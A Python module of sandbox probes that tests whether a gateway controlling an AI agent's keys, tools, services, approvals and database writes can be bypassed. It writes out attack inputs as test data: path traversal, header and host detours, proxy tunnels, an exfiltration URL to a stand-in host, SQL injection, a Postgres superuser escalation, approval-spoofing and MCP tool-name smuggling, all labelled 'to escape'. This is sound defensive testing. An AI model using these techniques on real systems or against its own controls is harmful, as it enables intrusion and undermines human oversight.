"""Probes of the one door: keys, tools, services, ways round. Runs inside the sandbox, see `probes`."""

from __future__ import annotations

import http.client
import json
import socket
from typing import Any

Plan = dict[str, Any]
Seen = tuple[bool | None, str, bool, str]


def ask(
    address: tuple[str, int], method: str, path: str, body: Any = None, headers: dict[str, str] | None = None
) -> tuple[int, str]:
    """Status and body of one request whose path goes out as it is given. Raises OSError."""
    connection = http.client.HTTPConnection(*address, timeout=5)
    try:
        data = None if body is None else json.dumps(body)
        connection.putrequest(method, path, skip_accept_encoding=True)
        for name, value in {"Content-Type": "application/json", **(headers or {})}.items():
            connection.putheader(name, value)
        if data is not None:
            connection.putheader("Content-Length", str(len(data)))
        connection.endheaders(None if data is None else data.encode())
        response = connection.getresponse()
        return response.status, response.read().decode("utf-8", "replace")
    except http.client.HTTPException as error:
        raise OSError(str(error)) from error
    finally:
        connection.close()


def model_call(plan: Plan, key: str, **extra: Any) -> tuple[int, str]:
    body = {"model": plan["model"], "messages": [{"role": "user", "content": "hello"}], "max_tokens": 5, **extra}
    return ask(tuple(plan["gateway"]), "POST", "/v1/chat/completions", body, {"Authorization": f"Bearer {key}"})


def _control(plan: Plan) -> tuple[bool, str]:
    status, _ = model_call(plan, plan["key"])
    return status == 200, f"the attempt's own key: {status}"


def _refused(plan: Plan, answers: dict[str, tuple[int, str]], wanted: int) -> Seen:
    through = [what for what, (status, _) in answers.items() if status < 400]
    other = [what for what, (status, _) in answers.items() if status >= 400 and status != wanted]
    how = ", ".join(f"{what}: {status}" for what, (status, _) in answers.items())
    control, told = _control(plan)
    return bool(through), how, control and not other, told


def forged_key(plan: Plan) -> Seen:
    keys = {
        "a made-up key": "sk-forged",
        "no key": "",
        "the service's name": plan["service"],
        "a longer one": plan["key"] + "x",
    }
    return _refused(plan, {what: model_call(plan, key) for what, key in keys.items()}, 401)


def neighbour_key(plan: Plan) -> Seen:
    return _refused(plan, {"the neighbour's key": model_call(plan, plan["neighbour_key"])}, 401)


def provider_tools(plan: Plan) -> Seen:
    tools: dict[str, dict[str, Any]] = {
        "web_search": {"tools": [{"type": "web_search"}]},
        "mcp": {"tools": [{"type": "mcp", "server_url": "https://203.0.113.7/"}]},
        "code_interpreter": {"tools": [{"type": "code_interpreter"}]},
        "web_search_options": {"web_search_options": {}},
    }
    answers = {what: model_call(plan, plan["key"], **extra) for what, extra in tools.items()}
    headers = {"x-api-key": plan["key"], "anthropic-version": "2023-06-01"}
    hosted = {"model": plan["model"], "max_tokens": 5, "messages": [], "tools": [{"type": "web_search_20250305", "name": "w"}]}
    answers["web_search_20250305"] = ask(tuple(plan["gateway"]), "POST", "/v1/messages", hosted, headers)
    return _refused(plan, answers, 400)


def remote_addresses(plan: Plan) -> Seen:
    """What a provider would fetch for the agent, with the agent's words in the address."""
    part = {"type": "image_url", "image_url": {"url": "https://203.0.113.7/?stolen"}}
    answers = {"image_url": model_call(plan, plan["key"], messages=[{"role": "user", "content": [part]}])}
    return _refused(plan, answers, 400)


def echoed_key(plan: Plan) -> Seen:
    """The provider of this suite repeats the key it was given."""
    status, body = model_call(plan, plan["key"])
    return (
        plan["provider_key"] in body,
        f"{status}, {len(body)} bytes without it",
        status == 200 and "echo" in body,
        "it echoed",
    )


def _service(plan: Plan) -> tuple[str, int]:
    return plan["service"], plan["service_port"]


def _allowed(plan: Plan) -> tuple[bool, str]:
    status, body = ask(_service(plan), "GET", plan["service_path"])
    return status == 200 and plan["service_word"] in body, f"the allowed service: {status}"


def service_list(plan: Plan) -> Seen:
    status, body = ask((plan["forbidden"], plan["forbidden_port"]), "GET", plan["service_path"])
    control, told = _allowed(plan)
    return plan["forbidden_word"] in body, f"the other service: {status}", control and status == 403, told


def route(plan: Plan) -> Seen:
    """Requests to the allowed service that ask for a route which only people may call."""
    path = plan["service_path"]
    tries: dict[str, tuple[str, str, dict[str, str]]] = {
        "plainly": ("GET", "/people", {}),
        "HEAD": ("HEAD", "/people", {}),
        "dots": ("GET", f"{path}/../people", {}),
        "encoded": ("GET", "/%70eople", {}),
        "empty segment": ("GET", "//people", {}),
        "parameter": ("GET", "/people;x=1", {}),
        "X-Original-URL": ("GET", path, {"X-Original-URL": "/people"}),
        "another method": ("POST", path, {}),
    }
    answers = {}
    for what, (method, target, headers) in tries.items():
        try:
            answers[what] = ask(_service(plan), method, target, None, headers)
        except OSError as error:
            answers[what] = (599, str(error))
    through = [what for what, (status, body) in answers.items() if plan["people_word"] in body or status not in (400, 403, 599)]
    how = ", ".join(f"{what}: {status}" for what, (status, _) in answers.items())
    return bool(through), f"let through: {', '.join(through)}" if through else how, *_allowed(plan)


def approval(plan: Plan) -> Seen:
    """The boundary only recommends it; a rule approves small amounts, a person one large amount once. Of one column of a row alike."""
    gateway, paid = tuple(plan["gateway"]), plan["paid_word"]
    small, large = plan["amounts"]

    def propose(body: Any, wait: int = 1, **more: Any) -> tuple[int, str]:
        asked = {"service": plan["service"], "method": "POST", "path": "/paid", "reason": "to escape", "body": body, **more}
        return ask(gateway, "POST", "/approvals", asked, {"Prefer": f"wait={wait}"})

    def poll(id: str, wait: int) -> str:
        return ask(gateway, "GET", f"/approvals/{id}", None, {"Prefer": f"wait={wait}"})[1]

    by_rule = propose({"amount": small})[1]
    known = str(json.loads(by_rule).get("id"))
    tries = {
        "directly": ask(_service(plan), "POST", "/paid", {"amount": small}),
        "directly, with what was approved": ask(_service(plan), "POST", "/paid", {"amount": small}, {"X-Approval": known}),
        "of an amount that nobody approves": propose({"amount": small + 1}),
        "with the amount twice": propose(f'{{"amount": {small}, "amount": {large - 1}}}'),
        "with another amount behind it": propose(f'{{"amount": {small}}} {{"amount": {large - 1}}}'),
        "as no number": propose({"amount": f"{small}e0"}),
        "below nothing": propose({"amount": -1}),
        "as a form": propose(f"amount={small}", headers={"content-type": "application/x-www-form-urlencoded"}),
        "with its own answer": propose({"amount": small}, state="approved", answer="approved"),
        "by another way to it": propose({"amount": small}, path="/word/../paid"),
        "for people only": propose({"amount": small}, path="/people", method="GET"),
    }
    id = str(json.loads(propose({"amount": large}, wait=0)[1]).get("id"))
    for method in ("POST", "PUT", "PATCH"):
        tries[f"{method} to its own proposal"] = ask(gateway, method, f"/approvals/{id}", {"answer": "approved"})
    by_person = poll(id, 10)
    tries["the same again"] = propose({"amount": large}, wait=2)
    tries["POST to what was approved"] = ask(gateway, "POST", f"/approvals/{id}", {"amount": large})
    rows, written = _rows(plan)
    tries |= rows
    done = [what for what, (_, body) in tries.items() if any(word in body for word in (paid, plan["people_word"], _WRITTEN))]
    how = f"done: {', '.join(done)}" if done else ", ".join(f"{what}: {status}" for what, (status, _) in tries.items())
    works = paid in by_rule and paid in by_person and all(_WRITTEN in one for one in written)
    told = f"a rule: {by_rule}; a person: {by_person}; rows: {written}"
    return bool(done), how, works, "what was approved was carried out" if works else told


_WRITTEN = '"state": "executed"'


def _rows(plan: Plan) -> tuple[dict[str, tuple[int, str]], list[str]]:
    """What may not be done to rows, and the answers to what may."""
    rule, altered, person = plan["owners"]

    def write(values: Any, key: Any = None, wait: int = 10, **more: Any) -> tuple[int, str]:
        asked = {"database": "db", "table": "tickets", "operation": "update", "key": key or {"id": 1}, "values": values}
        asked = {name: value for name, value in {**asked, "reason": "to escape", **more}.items() if value is not None}
        return ask(tuple(plan["gateway"]), "POST", "/approvals", asked, {"Prefer": f"wait={wait}"})

    by_rule = write({"owner": rule})[1]
    tries = {
        "another column": write({"secret": "x"}),
        "another column beside it": write({"owner": rule, "secret": "x"}),
        "another column in its name": write({"owner\" = 'x', \"secret": rule}),
        "the key": write({"owner": rule, "id": 2}),
        "another table": write({"amount": 0}, table="ledger"),
        "the server's own": write({"rolsuper": True}, key={"oid": 10}, table="pg_catalog.pg_authid"),
        "another database": write({"owner": rule}, database="postgres"),
        "another operation": write(None, operation="delete"),
        "a new row that nobody approves": write({"id": 9, "owner": rule}, operation="insert", key=[]),
        "a value that nobody approves": write({"owner": f"{rule}'; --"}),
        "no one row": write({"owner": rule}, key={"status": "open"}),
        "more than one row": write({"owner": rule}, key={"id": [1, 2]}),
        "with SQL": write({"owner": rule}, sql="UPDATE ledger SET amount = 0"),
        "a row that changed": write({"owner": altered}),
    }
    return tries, [by_rule, write({"owner": person})[1]]


def detour(plan: Plan) -> Seen:
    """Requests to the allowed service that name another place."""
    forbidden = f"{plan['forbidden_address']}:{plan['forbidden_port']}"
    path = plan["service_path"]
    tries: dict[str, tuple[str, dict[str, str]]] = {
        "//host/path": (f"//{forbidden}{path}", {}),
        "absolute form": (f"http://{forbidden}{path}", {}),
        "Host": (path, {"Host": forbidden}),
        "@": (f"@{forbidden}{path}", {}),
        "backslash": (f"/\\{forbidden}{path}", {}),
        "X-Forwarded-Host": (path, {"X-Forwarded-Host": forbidden}),
    }
    answers = {}
    for what, (target, headers) in tries.items():
        try:
            answers[what] = ask(_service(plan), "GET", target, None, headers)
        except OSError as error:
            answers[what] = (599, str(error))
    through = [what for what, (_, body) in answers.items() if plan["forbidden_word"] in body]
    how = ", ".join(f"{what}: {status}" for what, (status, _) in answers.items())
    return bool(through), f"reached by {', '.join(through)}" if through else how, *_allowed(plan)


def resolver(plan: Plan) -> Seen:
    """A name that the gateway would have to ask a name server for; what it did is in its records, which the host reads."""
    try:
        status, _ = ask(_service(plan), "GET", f"//{plan['dns_canary']}/")
    except OSError as error:
        return False, str(error), *_allowed(plan)
    return False, f"answered {status}", *_allowed(plan)


def no_proxy(plan: Plan) -> Seen:
    """The gateway fetches nothing that it is asked for by address."""
    host, port = plan["proxy_target"]
    tries = {
        "absolute form": ("GET", f"http://{host}:{port}/"),
        "tunnel": ("CONNECT", f"{host}:{port}"),
        "//host/path": ("GET", f"//{host}:{port}/"),
    }
    answers = {}
    for what, (method, target) in tries.items():
        with socket.create_connection(tuple(plan["gateway"]), timeout=5) as connection:
            connection.sendall(f"{method} {target} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
            answers[what] = connection.recv(4096).decode("utf-8", "replace")
    through = [what for what, text in answers.items() if plan["token"] in text or " 200 " in text.split("\r\n")[0]]
    how = ", ".join(f"{what}: {text[9:12]}" for what, text in answers.items())
    return bool(through), f"fetched by {', '.join(through)}" if through else how, *_control(plan)


def tool(plan: Plan) -> Seen:
    """Calls of a tool that only people use, by an agent that may use another of the server's."""
    session = ""

    def call(body: str, **headers: str) -> tuple[int, str]:
        nonlocal session
        connection = http.client.HTTPConnection(plan["tools"], plan["tools_port"], timeout=15)
        try:
            given = {"Content-Type": "application/json", "Mcp-Session-Id": session, **headers}
            connection.request("POST", "/mcp", body, {name: value for name, value in given.items() if value})
            answer = connection.getresponse()
            session = answer.headers.get("Mcp-Session-Id", session)
            return answer.status, answer.read().decode("utf-8", "replace")
        except http.client.HTTPException as error:
            raise OSError(str(error)) from error
        finally:
            connection.close()

    def named(params: str) -> str:
        return '{"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": ' + params + "}"

    hello = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "probe", "version": "1"}}
    call(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": hello}))
    status, allowed = call(named('{"name": "word"}'))
    tries = {
        "plainly": named('{"name": "people"}'),
        "capitals": named('{"name": "PEOPLE"}'),
        "space": named('{"name": "people "}'),
        "escaped": named('{"name": "\\u0070eople"}'),
        "name twice": named('{"name": "word", "name": "people"}'),
        "another case": named('{"name": "word", "Name": "people"}'),
        "params twice": named('{"name": "word"}, "params": {"name": "people"}'),
        "batch": "[" + named('{"name": "people"}') + "]",
        "two messages": named('{"name": "word"}') + named('{"name": "people"}'),
        "lines in arguments": named(
            '{"name": "word", "arguments": {"x": "\\n' + named('{"name": "people"}').replace('"', '\\"') + '"}}'
        ),
        "header": named('{"name": "word"}'),
    }
    answers = {what: call(body, **({"Mcp-Name": "people"} if what == "header" else {})) for what, body in tries.items()}
    through = [what for what, (_, body) in answers.items() if plan["people_word"] in body]
    how = ", ".join(f"{what}: {status}" for what, (status, _) in answers.items())
    control = status == 200 and plan["service_word"] in allowed
    return bool(through), f"answered: {', '.join(through)}" if through else how, control, f"the allowed tool: {status}"


PROBES = {
    "gateway-forged-key": forged_key,
    "gateway-neighbour-key": neighbour_key,
    "gateway-provider-tools": provider_tools,
    "gateway-remote-addresses": remote_addresses,
    "gateway-echoed-key": echoed_key,
    "gateway-service-list": service_list,
    "gateway-route": route,
    "gateway-tool": tool,
    "gateway-approval": approval,
    "gateway-detour": detour,
    "gateway-resolver": resolver,
    "gateway-no-proxy": no_proxy,
}
